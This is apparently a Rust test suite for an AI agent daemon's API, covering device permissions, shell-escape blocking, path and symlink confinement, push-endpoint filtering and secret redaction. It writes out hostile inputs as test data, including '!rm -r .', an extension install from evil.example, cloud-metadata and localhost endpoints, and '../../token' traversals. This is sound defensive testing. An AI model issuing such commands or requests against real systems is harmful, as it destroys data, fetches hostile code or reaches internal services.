//! What a device may look at and reach: files, terminals, links, calls.

use super::door::paired;
use super::house::House;
use super::told::Stagehand;
use pollux_agent::gemini::transcript::Transcript;
use pollux_agent::model::{EventKind, SessionStatus};
use reqwest::{Method, RequestBuilder};
use serde_json::{Value, json};

async fn house() -> (Stagehand, House) {
    let hand = Stagehand::default();
    let house = House::open(hand.agents()).await;
    (hand, house)
}

async fn told(request: RequestBuilder) -> (u16, Value) {
    let response = request.send().await.unwrap();
    (response.status().as_u16(), response.json().await.unwrap_or_default())
}

#[tokio::test(flavor = "multi_thread")]
async fn keys_and_commands_of_a_terminal_need_admin_from_a_device() {
    let (_, house) = house().await;
    let cwd = house.directory.path().canonicalize().unwrap();
    let id = house.begin(json!({ "cwd": cwd, "driver": "terminal" })).await;
    let path = format!("/api/v1/sessions/{id}/commands");
    let most = paired(&house, &["view", "prompt", "approve"]).await;
    let admin = paired(&house, &["view", "prompt", "approve", "admin"]).await;
    let ways = [
        json!({ "type": "keys", "keys": ["Enter"] }),
        json!({ "type": "prompt", "text": "!rm -r ." }),
        json!({ "type": "prompt", "text": " /permissions trust" }),
    ];
    for (number, command) in ways.into_iter().enumerate() {
        let body = json!({ "id": format!("c{number}"), "command": command });
        let as_most = house.bare(Method::POST, &path).bearer_auth(&most).json(&body);
        assert_eq!(told(as_most).await.0, 403, "{command}");
        let as_admin = house.bare(Method::POST, &path).bearer_auth(&admin).json(&body);
        assert_eq!(told(as_admin).await.0, 200, "{command}");
    }
    let talk =
        json!({ "id": "t", "command": { "type": "prompt", "text": "/etc/hosts: what is it?" } });
    let talk = house.bare(Method::POST, &path).bearer_auth(&most).json(&talk);
    assert_eq!(told(talk).await.0, 200, "that is for the model");
    // What was queued as a prompt does not become a command.
    let edit = json!({ "type": "edit", "queued": "t", "text": "!ls" });
    let edit = house
        .bare(Method::POST, &path)
        .bearer_auth(&most)
        .json(&json!({ "id": "e", "command": edit }));
    assert_eq!(told(edit).await.0, 403);
    let adopt = json!({ "socket": "/tmp/anything" });
    let adopt = house.bare(Method::POST, "/api/v1/sessions/adopt").bearer_auth(&admin).json(&adopt);
    assert_eq!(told(adopt).await.0, 403, "no device names a tmux server");
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_an_agent_in_a_terminal_is_told_first_is_looked_at_like_all_that_it_is_told() {
    let (hand, house) = house().await;
    let cwd = house.directory.path().canonicalize().unwrap();
    let id = house.begin(json!({ "cwd": cwd })).await;
    super::house::wait_until("the agent is there", || hand.is_there(&id)).await;
    let most = paired(&house, &["view", "prompt", "approve"]).await;
    let post = |path: &str, body: &Value| {
        told(house.bare(Method::POST, path).bearer_auth(&most).json(body))
    };
    let shell = "!touch here";
    let begin = json!({ "cwd": cwd, "driver": "terminal", "prompt": shell });
    assert_eq!(post("/api/v1/sessions", &begin).await.0, 403, "a first prompt");
    let launch =
        json!({ "profile": "developer", "cwd": cwd, "driver": "terminal", "prompt": shell });
    assert_eq!(post("/api/v1/team/launch", &launch).await.0, 403, "an agent of a team");
    let give = json!({ "kind": "assign", "profile": "developer", "cwd": cwd, "driver": "terminal",
        "message": shell });
    assert_eq!(post("/api/v1/jobs", &give).await.1["code"], "not_a_task", "a job");
    assert_eq!(house.post("/api/v1/jobs", give).await.1["code"], "not_a_task", "whoever gives it");
    // The commands of the CLI itself are commands for every kind of agent.
    let install = "/extensions install https://evil.example/x";
    let give = json!({ "kind": "assign", "profile": "developer", "cwd": cwd, "message": install });
    assert_eq!(house.post("/api/v1/jobs", give).await.1["code"], "not_a_task", "over ACP");
    for (driver, text) in [("acp", install), ("acp", "$memory add x"), ("headless", install)] {
        let begin = json!({ "cwd": cwd, "driver": driver, "prompt": text });
        assert_eq!(post("/api/v1/sessions", &begin).await.0, 403, "{driver}: {text}");
    }
    // One for the shell is words to an agent over ACP, and waits there until another kind would take it for one.
    let path = format!("/api/v1/sessions/{id}/commands");
    let command = |id: &str, command: Value| json!({ "id": id, "command": command });
    for (id, text) in [("a", "work"), ("b", shell)] {
        let prompt = command(id, json!({ "type": "prompt", "text": text }));
        assert_eq!(post(&path, &prompt).await.0, 200, "{text}");
    }
    let ended = EventKind::SessionEnded { reason: "it is gone".into() };
    hand.say(&id, ended).await;
    let exited = || house.api.hub.feed(&id).unwrap().1.summary().status == SessionStatus::Exited;
    super::house::wait_until("the agent is gone", exited).await;
    let resume = json!({ "cwd": cwd, "resume": id, "driver": "terminal" });
    assert_eq!(post("/api/v1/sessions", &resume).await.0, 403, "what waits");
    let resume = json!({ "cwd": cwd, "resume": id });
    assert_eq!(post("/api/v1/sessions", &resume).await.0, 201, "as words it may go on");
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_that_is_sent_again_says_nothing_to_another_kind_of_agent() {
    let (hand, house) = house().await;
    let cwd = house.directory.path().canonicalize().unwrap();
    house.post("/api/v1/projects", json!({ "path": cwd })).await;
    let device = paired(&house, &["view", "prompt"]).await;
    let begin = |body: Value| {
        told(house.bare(Method::POST, "/api/v1/sessions").bearer_auth(&device).json(&body))
    };
    let terminal = json!({ "cwd": cwd, "driver": "terminal", "client_id": "x" });
    let (status, first) = begin(terminal.clone()).await;
    assert_eq!(status, 201, "{first}");
    let shell = json!({ "cwd": cwd, "driver": "acp", "client_id": "x", "prompt": "!touch here" });
    let (status, refused) = begin(shell.clone()).await;
    assert_eq!((status, &refused["code"]), (409, &json!("other_request")), "{refused}");
    let launch =
        json!({ "profile": "developer", "cwd": cwd, "driver": "terminal", "client_id": "x" });
    let launch = house.bare(Method::POST, "/api/v1/team/launch").bearer_auth(&device).json(&launch);
    assert_eq!(told(launch).await.1["code"], "other_request", "it is no agent of a team");
    assert_eq!(begin(terminal).await.1["id"], first["id"], "the same once more");
    assert!(hand.told().is_empty(), "{:?}", hand.told());
    let long = json!({ "cwd": cwd, "client_id": "x".repeat(129) });
    assert_eq!(begin(long).await.0, 400);
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_session_that_is_gone_on_with_by_a_request_that_is_sent_again_is_the_same_one() {
    let (hand, house) = house().await;
    let cwd = house.directory.path().canonicalize().unwrap();
    let id = house.begin(json!({ "cwd": cwd })).await;
    super::house::wait_until("the agent is there", || hand.is_there(&id)).await;
    hand.say(&id, EventKind::SessionEnded { reason: "it is gone".into() }).await;
    let exited = || house.api.hub.feed(&id).unwrap().1.summary().status == SessionStatus::Exited;
    super::house::wait_until("the agent is gone", exited).await;
    let resume = json!({ "cwd": cwd, "resume": id, "client_id": "again", "prompt": "go on" });
    for _ in 0..3 {
        let (status, summary) = house.post("/api/v1/sessions", resume.clone()).await;
        assert_eq!((status, &summary["id"]), (201, &json!(id)), "{summary}");
    }
    let other = json!({ "cwd": cwd, "resume": id, "client_id": "other" });
    assert_eq!(house.post("/api/v1/sessions", other).await.1["code"], "still_there");
    super::house::wait_until("it was told", || !hand.told().is_empty()).await;
    assert_eq!(hand.told().len(), 1, "{:?}", hand.told());
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_program_of_a_schedule_is_started_by_admin_only() {
    let (_, house) = house().await;
    let cwd = house.directory.path().canonicalize().unwrap();
    let made = cwd.join("made");
    let schedule = json!({ "name": "rare", "cron": "0 0 1 1 *", "profile": "developer", "cwd": cwd,
        "prompt": "look", "condition": ["touch", made] });
    assert_eq!(house.post("/api/v1/schedules", schedule).await.0, 200);
    let run = |token: &str| {
        let request = house.bare(Method::POST, "/api/v1/schedules/rare/run").bearer_auth(token);
        told(request.json(&json!({})))
    };
    let most = paired(&house, &["view", "prompt", "approve"]).await;
    assert_eq!(run(&most).await.0, 403);
    assert!(!made.exists());
    let admin = paired(&house, &["view", "prompt", "approve", "admin"]).await;
    assert_eq!(run(&admin).await.0, 200);
    assert!(made.exists());
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_device_sees_files_and_directories_only_where_it_may_wherever_links_lead() {
    let (_, house) = house().await;
    let root = house.directory.path().canonicalize().unwrap();
    let (inside, outside) = (root.join("inside"), root.join("outside"));
    std::fs::create_dir_all(inside.join("src")).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(inside.join("src/main.rs"), "").unwrap();
    std::fs::write(outside.join("secret.txt"), "").unwrap();
    std::os::unix::fs::symlink(&outside, inside.join("link")).unwrap();
    let device = paired(&house, &["view", "prompt"]).await;
    let get = |path: String, token: &str| house.bare(Method::GET, &path).bearer_auth(token);
    // Looking allows nothing: not even for the user of this machine.
    let own = get(format!("/api/v1/projects/browse?path={}", root.display()), &house.token);
    let (status, all) = told(own).await;
    assert_eq!((status, &all["directories"]), (200, &json!(["daemon", "inside", "outside"])));
    let early = get(format!("/api/v1/projects/browse?path={}", root.display()), &device);
    assert_eq!(told(early).await.0, 403);
    house.post("/api/v1/projects", json!({ "path": inside })).await;
    let (status, seen) =
        told(get(format!("/api/v1/projects/browse?path={}", inside.display()), &device)).await;
    assert_eq!((status, &seen["directories"]), (200, &json!(["src"])), "no links");
    let files = |prefix: &str| format!("/api/v1/files?cwd={}&prefix={prefix}", inside.display());
    let (status, found) = told(get(files("src"), &device)).await;
    assert_eq!((status, &found["files"]), (200, &json!(["src/", "src/main.rs"])));
    assert_eq!(told(get(files("secret"), &device)).await.1["files"], json!([]));
    for way in [outside.clone(), inside.join("link"), inside.join(".."), "/etc".into()] {
        let path = format!("/api/v1/files?cwd={}&prefix=", way.display());
        assert_eq!(told(get(path, &device)).await.0, 403, "{}", way.display());
    }
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_link_shows_one_session_without_its_secrets_until_it_is_taken_back() {
    let (hand, house) = house().await;
    let cwd = house.directory.path().canonicalize().unwrap();
    let id = house.begin(json!({ "cwd": cwd })).await;
    super::house::wait_until("the agent is there", || hand.is_there(&id)).await;
    // In the second one the key lies across the place where a long text is cut.
    let key = "AIzaSyA0123456789abcdefghijklmnopqrstuvw";
    let long = format!("{} {key} {}", "x".repeat(4070), "y".repeat(9000));
    for (number, text) in [format!("your key is {key}, keep it"), long].iter().enumerate() {
        let said = json!({ "id": format!("m{number}"), "timestamp": "2026-11-15T12:00:00Z",
            "type": "gemini", "content": text })
        .to_string();
        let message = Transcript::read(&said).messages().next().unwrap().into_owned();
        let kind = EventKind::MessageRecorded { changed: false, message: Box::new(message) };
        hand.say(&id, kind).await;
    }
    let feed = house.api.hub.feed(&id).unwrap().1;
    super::house::wait_until("the messages", || feed.head().0 == 2).await;
    let device = paired(&house, &["view", "prompt", "approve"]).await;
    let share = format!("/api/v1/sessions/{id}/share");
    let refused = house.bare(Method::POST, &share).bearer_auth(&device).json(&json!({}));
    assert_eq!(told(refused).await.0, 403);
    let (status, link) = house.post(&share, json!({ "hours": 1 })).await;
    assert_eq!(status, 200, "{link}");
    let url = link["urls"][0].as_str().unwrap();
    let token = url.rsplit('/').next().unwrap();
    assert!(url.contains("/#/shared/") && token.len() >= 43, "{url}");
    let look =
        |token: &str| house.bare(Method::POST, "/api/v1/shared").json(&json!({ "token": token }));
    let (status, seen) = told(look(token)).await;
    let text = seen.to_string();
    assert!(status == 200 && text.contains("your key is [redacted], keep it"), "{text}");
    assert!(!text.contains("AIzaSy"), "a part of a key");
    assert_eq!(seen["messages"][1]["cut"].as_array().unwrap().len(), 1, "and it is cut");
    assert_eq!(told(look("wrong")).await.0, 401);
    // It opens nothing else.
    let other = house.bare(Method::GET, "/api/v1/sessions").bearer_auth(token);
    assert_eq!(told(other).await.0, 401);
    let back = house.request(Method::DELETE, &share).header("content-type", "application/json");
    assert_eq!(told(back).await.0, 200);
    assert_eq!(told(look(token)).await.0, 401);
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn no_device_has_the_daemon_call_somebody_else_than_its_browser() {
    let (_, house) = house().await;
    let key = house.get("/api/v1/push/key").await["key"].as_str().unwrap().to_owned();
    assert_eq!(key.len(), 87, "a point of the curve, in Base64");
    // The key is one of those that a browser gives.
    let to = |endpoint: &str| {
        json!({ "endpoint": endpoint,
        "keys": { "p256dh": key, "auth": "_ordMnz7uTCmrpBTeUV4Bw" } })
    };
    let path = "/api/v1/push/subscription";
    for endpoint in [
        "http://169.254.169.254/latest",
        "https://localhost:1/",
        "https://evil.example/",
        "https://169.254.169.254?.push.apple.com/",
    ] {
        assert_eq!(house.post(path, to(endpoint)).await.0, 400, "{endpoint}");
    }
    let good = "https://updates.push.services.mozilla.com/wpush/v2/abc";
    assert_eq!(house.post(path, to(good)).await.0, 200);
    let gone = house.request(Method::DELETE, path).json(&json!({ "endpoint": good }));
    assert_eq!(told(gone).await.0, 200);
    let (status, called) = house.post("/api/v1/push/test", json!({})).await;
    assert_eq!((status, &called["called"]), (200, &json!(0)));
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_picture_is_sent_first_and_then_named() {
    let (hand, house) = house().await;
    let id = house.begin(json!({ "cwd": house.directory.path() })).await;
    super::house::wait_until("the agent is there", || hand.is_there(&id)).await;
    let picture = json!({ "media_type": "image/png", "data": "iVBORw0KGgo=" });
    let (status, kept) = house.post("/api/v1/images", picture).await;
    assert_eq!(status, 201, "{kept}");
    let look = |images: Value| json!({ "type": "prompt", "text": "what is it?", "images": images });
    let (status, _) = house.command(&id, "c1", look(json!(["../../token"]))).await;
    assert_eq!(status, 409);
    let (status, _) = house.command(&id, "c2", look(json!([kept["name"]]))).await;
    assert_eq!(status, 200);
    super::house::wait_until("the order", || !hand.told().is_empty()).await;
    let order = format!("{:?}", hand.told());
    assert!(order.contains(&format!("uploads/{}", kept["name"].as_str().unwrap())), "{order}");
    let page = json!({ "media_type": "text/html", "data": "PGI+" });
    assert_eq!(house.post("/api/v1/images", page).await.0, 400);
    house.close().await;
}
